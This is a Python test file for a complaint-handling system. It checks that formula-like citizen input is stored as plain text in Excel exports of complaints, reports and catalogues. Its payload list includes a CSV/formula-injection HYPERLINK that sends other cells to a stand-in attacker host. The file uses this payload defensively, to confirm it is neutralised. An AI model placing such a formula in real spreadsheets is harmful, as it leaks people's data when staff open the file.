"""Citizen text starting with = + - @ is written to every workbook as text, never as a formula
(issue 10 #6: a HYPERLINK in the facts could send other rows out when staff open the export)."""

from __future__ import annotations

import zipfile
from pathlib import Path

from openpyxl import load_workbook

from nocert_core.adapters.files.catalogue_files import write_catalogue
from nocert_core.adapters.files.xlsx_reports import write_workbook
from nocert_core.bootstrap import Application
from nocert_core.domain.actors import CLI_ADMIN, Actor, Role
from nocert_core.domain.catalogue import CatalogueEntry, ExemptionMode
from nocert_core.services.complaints import handling as svc
from nocert_core.services.complaints.handling import ComplaintDraft
from nocert_core.services.complaints.register_book import export_register
from tests.integration.chat_driver import FACTS, add_units

HYPERLINK = '=HYPERLINK("http://evil.example/?"&C3&D3,"详情")'
PAYLOADS = [HYPERLINK, "+SUM(1,1)", "-2+3", "@SUM(A1:A9)", "\t=1+1"]


def formulas_in(path: Path) -> list[str]:
    """Every formula element in the workbook's sheets (the raw XML: what Excel would calculate)."""
    with zipfile.ZipFile(path) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            and ("<f>" in (text := archive.read(name).decode()) or "<f " in text)
        ]


def texts_in(path: Path) -> set[str]:
    workbook = load_workbook(path)
    return {str(cell.value) for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value}


async def test_the_complaint_export_stores_formula_like_answers_as_text(
    app: Application, tmp_path: Path
) -> None:
    await add_units(app)
    citizen = Actor("telegram:1001", Role.CITIZEN)
    for payload in PAYLOADS:
        draft = ComplaintDraft(
            "王芳", "13805361234", "奎文区行政审批服务局", payload, payload, f"{payload} {FACTS}"
        )
        await svc.register_complaint(app.uow(), app.clock, citizen, draft)
    path = tmp_path / "complaints.xlsx"
    assert await export_register(app.uow(), CLI_ADMIN, path, "en") == len(PAYLOADS)
    assert formulas_in(path) == []
    assert {p.strip() for p in PAYLOADS} <= texts_in(path)  # shown exactly as typed (answers are stripped)


def test_report_and_catalogue_workbooks_store_formula_like_text_as_text(tmp_path: Path) -> None:
    report = write_workbook(
        tmp_path / "report.xlsx", [("units", ["unit", "count"], [[p, 1] for p in PAYLOADS], set())]
    )
    entries = [
        CatalogueEntry("370700-X-001", "service", "unit", f"cert {n}", ExemptionMode.COMMITMENT, p, p)
        for n, p in enumerate(PAYLOADS)
    ]
    catalogue = tmp_path / "catalogue.xlsx"
    write_catalogue(catalogue, entries)
    for path in (report, catalogue):
        assert formulas_in(path) == []
        assert set(PAYLOADS) <= texts_in(path)
